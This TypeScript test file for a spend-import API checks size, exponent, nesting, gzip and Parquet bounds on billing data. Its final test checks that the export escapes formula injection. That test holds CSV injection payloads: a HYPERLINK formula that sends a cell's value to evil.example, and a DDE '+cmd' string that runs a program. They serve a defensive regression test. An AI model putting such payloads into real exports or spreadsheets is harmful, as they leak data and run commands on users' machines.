// Bills and usage that cannot stall or break the service (the bounds on bill content in
// docs/api.md): a decimal cell is at most 40 characters, its exponent at most 20 in magnitude and its
// value below 10^18; a text cell at most 64 KiB; Tags at most 32 levels and 64 KiB; a gzip body at
// most SPEND_IMPORT_MAX_BYTES once decompressed. Past a bound: a 400 naming the row and column (or a
// 413), and nothing stored. The export escapes text cells a spreadsheet would run as formulas.
import { gzipSync } from "node:zlib";
import { parse } from "csv-parse/sync";
import request from "supertest";
import { createTestContext, TEST_SERVICE_TOKEN_SECRET, type TestContext } from "./helpers/context";
import { focusCsvText, focusParquet } from "./helpers/focus-files";
import { expectError, signUp, type SignedUp } from "./helpers/identity";
import { startPricingApi, type RunningPricingApi } from "./helpers/pricing-api";
import { modelUsage, registerModelPrices } from "./helpers/spend";

let pricing: RunningPricingApi;
let ctx: TestContext;
let org: SignedUp;

beforeAll(async () => {
  pricing = await startPricingApi(TEST_SERVICE_TOKEN_SECRET);
  ctx = await createTestContext({ PRICING_API_URL: pricing.url, PRICING_API_TIMEOUT_MS: "30000" });
  org = await signUp(ctx, { company: "Bounds" });
}, 60_000);
afterAll(async () => {
  await ctx?.close();
  await pricing?.close();
});

const imports = () => `/api/v1/organizations/${org.organization.id}/spend/imports`;
const upload = (body: Buffer | string, options: { type?: string; encoding?: string; app?: TestContext } = {}) => {
  let req = request((options.app ?? ctx).app)
    .post(imports())
    .set("Authorization", `Bearer ${org.token}`)
    .set("Content-Type", options.type ?? "text/csv");
  if (options.encoding) req = req.set("Content-Encoding", options.encoding);
  return req.send(Buffer.from(body));
};
const storedLines = async () => (await ctx.prisma.spendLine.count({ where: { organizationId: org.organization.id } })) as number;

async function expectRefused(body: string | Buffer, message: RegExp, options: { type?: string; encoding?: string } = {}) {
  const before = await storedLines();
  const res = await upload(body, options);
  expectError(res, 400, message);
  expect(res.body.message.length).toBeLessThan(400);
  expect(await storedLines()).toBe(before);
}

describe("decimal cells of a bill", () => {
  test("finding 1: a 1e20000000 cost is refused on its exponent, naming row and column, nothing stored", async () => {
    const file = focusCsvText([{}, { BilledCost: "1e20000000" }]);
    expect(file.length).toBeLessThan(1000);
    await expectRefused(file, /Row 2, column BilledCost: "1e20000000" has an exponent beyond ±20/);
  });

  test.each([
    ["BilledCost", "1e400", /exponent beyond ±20/],
    ["EffectiveCost", "-1e30", /exponent beyond ±20/],
    ["ListCost", "9".repeat(29), /out of range/],
    ["ContractedCost", "-1000000000000000000", /out of range/],
    ["PricingQuantity", "1".repeat(41), /at most 40/],
    ["BilledCost", "1e-21", /exponent beyond ±20/],
  ])("finding 7: %s %s is a 400 naming the row and column", async (column, value, message) => {
    await expectRefused(focusCsvText([{ [column]: value }]), new RegExp(`Row 1, column ${column}: .*${message.source}`));
  });

  test("the largest values within the bounds are stored exactly", async () => {
    const res = await upload(focusCsvText([{ BilledCost: "999999999999999999.9999999999", EffectiveCost: "-1.5e17", ListCost: "1E-20" }]));
    expect(res.status).toBe(201);
    const line = await ctx.prisma.spendLine.findFirstOrThrow({ where: { organizationId: org.organization.id, importId: res.body.data.import.id } });
    expect([line.billedCost?.toFixed(), line.effectiveCost?.toFixed(), line.listCost?.toFixed()]).toEqual([
      "999999999999999999.9999999999",
      "-150000000000000000",
      // Every delivered place up to 20 is kept (1E-20 was rounded to 0 at 10 places before).
      "0.00000000000000000001",
    ]);
    await request(ctx.app).delete(`${imports()}/${res.body.data.import.id}`).set("Authorization", `Bearer ${org.token}`).expect(204);
  });
});

describe("text, tags and size", () => {
  test("finding 2: a text cell over 64 KiB is a 400 naming row and column", async () => {
    await expectRefused(
      focusCsvText([{}, {}, { ResourceName: "x".repeat(64 * 1024 + 1) }], ["ResourceName"]),
      /Row 3, column ResourceName: is longer than 64 KiB/,
    );
  });

  test("finding 2: a text cell of multi-byte characters is measured in bytes", async () => {
    await expectRefused(focusCsvText([{ ResourceName: "é".repeat(33 * 1024) }], ["ResourceName"]), /Row 1, column ResourceName: is longer than 64 KiB/);
  });

  test("finding 2: a row over 4 MiB is refused while it is read, naming the row and the column it reached", async () => {
    const wide = Object.fromEntries(Array.from({ length: 70 }, (_, i) => [`x_Wide${i}`, "y".repeat(60 * 1024)]));
    await expectRefused(focusCsvText([wide], Object.keys(wide)), /Row 1, column x_Wide\d+: the row is longer than 4 MiB/);
  });

  test("finding 2: Tags 5,000 levels deep is a 400 (was a 500); 32 levels are accepted", async () => {
    const nested = (depth: number) => `${'{"a":'.repeat(depth)}"v"${"}".repeat(depth)}`;
    await expectRefused(focusCsvText([{ Tags: nested(5000) }], ["Tags"]), /Row 1, column Tags: is nested more than 32 levels deep/);
    await expectRefused(focusCsvText([{ Tags: nested(33) }], ["Tags"]), /Row 1, column Tags: is nested more than 32 levels deep/);
    const res = await upload(focusCsvText([{ Tags: nested(32) }], ["Tags"]));
    expect(res.status).toBe(201);
    await request(ctx.app).delete(`${imports()}/${res.body.data.import.id}`).set("Authorization", `Bearer ${org.token}`).expect(204);
  });

  test("Tags over 64 KiB is a 400; brackets inside strings do not count as depth", async () => {
    await expectRefused(focusCsvText([{ Tags: JSON.stringify({ big: "z".repeat(64 * 1024) }) }], ["Tags"]), /Row 1, column Tags: is longer than 64 KiB/);
    const res = await upload(focusCsvText([{ Tags: JSON.stringify({ team: "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[{{{{{", 'quote\\"': "}" }) }], ["Tags"]));
    expect(res.status).toBe(201);
    await request(ctx.app).delete(`${imports()}/${res.body.data.import.id}`).set("Authorization", `Bearer ${org.token}`).expect(204);
  });

  test("finding 2: a gzip body over SPEND_IMPORT_MAX_BYTES once decompressed is a 413, nothing stored", async () => {
    const small = await createTestContext({ SPEND_IMPORT_MAX_BYTES: "100000" });
    try {
      const owner = await signUp(small, { company: "Zip" });
      // 2,000 rows of about 500 bytes: one megabyte that compresses to a few kilobytes.
      const file = gzipSync(
        focusCsvText(
          Array.from({ length: 2000 }, () => ({ ResourceName: "r".repeat(200) })),
          ["ResourceName"],
        ),
      );
      expect(file.length).toBeLessThan(100_000);
      const res = await request(small.app)
        .post(`/api/v1/organizations/${owner.organization.id}/spend/imports`)
        .set("Authorization", `Bearer ${owner.token}`)
        .set("Content-Type", "text/csv")
        .set("Content-Encoding", "gzip")
        .send(file);
      expectError(res, 413, /larger than 100000 bytes once decompressed \(SPEND_IMPORT_MAX_BYTES\)/);
      expect(await small.prisma.spendLine.count({ where: { organizationId: owner.organization.id } })).toBe(0);
    } finally {
      await small.close();
    }
  });
});

describe("Parquet", () => {
  test("finding 10: a malformed Parquet file is 'not a readable Parquet file', never the reader's own words", async () => {
    const bytes = Buffer.from(focusParquet(3));
    // A valid footer around a corrupt middle: the metadata reads, the pages do not.
    const corrupt = Buffer.from(bytes);
    corrupt.fill(0xff, 4, Math.min(400, corrupt.length - 200));
    for (const body of [Buffer.from("PAR1 not really PAR1"), corrupt]) {
      const res = await upload(body, { type: "application/vnd.apache.parquet" });
      expectError(res, 400, /not a readable Parquet file/);
      expect(res.body.message).not.toMatch(/parquet (decompressed|unsupported|invalid)|offset|undefined|Cannot read|byteLength/i);
    }
  });
});

describe("Parquet tags", () => {
  test.each([
    ["a NUL", { team: "a\u0000b" }, /Row 2, column Tags: contains a NUL character/],
    ["a NUL in a key", { "t\u0000": "a" }, /Row 2, column Tags: contains a NUL character/],
  ])("holding %s in a JSON column is a 400 naming row and column, nothing stored (was a 500)", async (_what, bad, message) => {
    const before = await storedLines();
    const res = await upload(Buffer.from(focusParquet(3, (i) => (i === 1 ? bad : { team: "t" }))), { type: "application/vnd.apache.parquet" });
    expectError(res, 400, message);
    expect(await storedLines()).toBe(before);
  });
});

describe("usage", () => {
  test.each([1e308, 1.2e29, 1e18, 1e-300])("finding 7: a quantity of %s is a 400 naming the line, nothing stored", async (quantity) => {
    const before = await storedLines();
    const res = await request(ctx.app)
      .post("/api/v1/tenant/spend/usage")
      .set("Authorization", `Bearer ${org.token}`)
      .set("X-Service-Tenant-ID", org.tenant.id)
      .send({ usage: [modelUsage(null, { input: 1 }), modelUsage(null, { input: quantity })] });
    expectError(res, 400, /^Invalid body: usage\.1\.quantities\.input: (is out of range|has an exponent beyond ±20)/);
    expect(await storedLines()).toBe(before);
  });

  test("a line whose cost at its price is 10^18 or more is a 400 naming it, nothing stored", async () => {
    const prices = await registerModelPrices(pricing, org.organization.id, "huge-model", [{ bucket: "input", perMtok: 1e15 }]);
    const before = await storedLines();
    const res = await request(ctx.app)
      .post("/api/v1/tenant/spend/usage")
      .set("Authorization", `Bearer ${org.token}`)
      .set("X-Service-Tenant-ID", org.tenant.id)
      .send({ usage: [modelUsage(prices.input, { input: 1 }), modelUsage(prices.input, { input: 1e17 })] });
    expectError(res, 400, /^Invalid body: usage\.1\.quantities: cost 100000000000000000000000000 at its price/);
    expect(await storedLines()).toBe(before);
  });
});

describe("finding 6: formula injection through the export", () => {
  test("text cells a spreadsheet would run are written with a leading ', numbers never; the export imports back to the same values", async () => {
    const hostile = {
      ResourceId: '=HYPERLINK("https://evil.example/?"&A1,"click")',
      ResourceName: "+cmd|' /C calc'!A0",
      SubAccountId: "-2+3",
      RegionId: "@SUM(1+1)",
      BilledCost: "-5",
      EffectiveCost: "-5",
      ListCost: "-5",
    };
    const imported = await upload(focusCsvText([hostile], ["ResourceId", "ResourceName", "SubAccountId", "RegionId"]));
    expect(imported.status).toBe(201);
    const exported = await request(ctx.app)
      .get(`/api/v1/organizations/${org.organization.id}/spend/export?start=2026-10-01&end=2026-11-01`)
      .set("Authorization", `Bearer ${org.token}`)
      .buffer(true)
      .parse((res, done) => {
        let text = "";
        res.on("data", (chunk: Buffer) => {
          text += chunk.toString("utf8");
        });
        res.on("end", () => done(null, text));
      });
    expect(exported.status).toBe(200);
    const csv = exported.body as string;
    const [cells] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(cells).toMatchObject({
      ResourceId: `'${hostile.ResourceId}`,
      ResourceName: `'${hostile.ResourceName}`,
      SubAccountId: `'${hostile.SubAccountId}`,
      RegionId: `'${hostile.RegionId}`,
      BilledCost: "-5",
      EffectiveCost: "-5",
      ListCost: "-5",
    });
    // Imported again (it replaces the first import: same account and period), the values are as sent.
    const again = await upload(csv);
    expect(again.status).toBe(201);
    const line = await ctx.prisma.spendLine.findFirstOrThrow({ where: { organizationId: org.organization.id, importId: again.body.data.import.id } });
    expect(line).toMatchObject({
      resourceId: hostile.ResourceId,
      resourceName: hostile.ResourceName,
      subAccountId: hostile.SubAccountId,
      region: hostile.RegionId,
    });
    expect(line.billedCost?.toFixed()).toBe("-5");
    await request(ctx.app).delete(`${imports()}/${again.body.data.import.id}`).set("Authorization", `Bearer ${org.token}`).expect(204);
  });
});
